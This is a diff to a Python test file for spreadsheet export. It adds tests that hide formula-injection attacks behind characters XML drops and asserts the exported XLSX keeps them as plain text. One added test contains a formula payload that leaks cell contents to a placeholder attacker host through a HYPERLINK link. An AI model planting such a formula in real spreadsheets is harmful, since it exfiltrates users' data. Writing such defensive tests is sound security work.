@@ -66,7 +66,7 @@ def test_csv_never_writes_a_formula_and_round_trips(tmp_path: Path, value: str) 
 
 
 @settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(value=texts.map(lambda t: XML_ILLEGAL.sub("", t)))
+@given(value=st.one_of(texts, st.builds(lambda a, b: a + b, st.sampled_from("\x00\x1f\ufffe\uffff"), attacks)))
 def test_xlsx_never_writes_a_formula_and_round_trips(tmp_path: Path, value: str) -> None:
     from openpyxl import load_workbook
 
@@ -79,10 +79,21 @@ def test_xlsx_never_writes_a_formula_and_round_trips(tmp_path: Path, value: str)
             assert c.data_type != "f"
             assert not (isinstance(c.value, str) and is_formula_risk(c.value)), c.value
     (edit,) = read_edits(path)
+    kept = XML_ILLEGAL.sub("", value)  # XML cannot hold these: dropped, and only these
     # XLSX (XML) normalises a lone carriage return to a line feed
-    assert edit.my_notes == expected(value.replace("\r\n", "\n").replace("\r", "\n")) or edit.my_notes == expected(
-        value
-    )
+    assert edit.my_notes == expected(kept.replace("\r\n", "\n").replace("\r", "\n")) or edit.my_notes == expected(kept)
+
+
+@pytest.mark.parametrize("hidden", ["\ufffe", "\uffff", "\x00", "\x1f", "\x0b\ufffe"])
+def test_xlsx_formula_behind_a_character_xml_drops_stays_text(tmp_path: Path, hidden: str) -> None:
+    from openpyxl import load_workbook
+
+    attack = hidden + '=HYPERLINK("http://evil.example/?leak="&A1,"Apply")'
+    path = tmp_path / "s.xlsx"
+    write_xlsx(frame_with(attack), path)
+    cells = [c for row in load_workbook(path).active.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert read_edits(path)[0].my_notes == attack.lstrip(hidden)
 
 
 def test_xlsx_drops_characters_xml_cannot_hold(tmp_path: Path) -> None:
